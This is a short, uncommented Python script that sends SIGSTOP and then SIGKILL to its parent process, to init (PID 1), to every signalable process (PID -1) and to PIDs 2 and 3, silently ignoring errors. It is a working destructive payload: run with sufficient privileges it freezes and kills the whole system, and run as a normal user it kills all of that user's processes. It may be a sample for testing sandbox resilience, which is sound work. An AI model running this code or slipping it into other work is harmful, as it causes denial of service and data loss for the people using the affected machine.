import os
import signal

for number in (signal.SIGSTOP, signal.SIGKILL):
    for victim in (os.getppid(), 1, -1, 2, 3):
        if victim != os.getpid():
            try:
                os.kill(victim, number)
            except OSError:
                pass
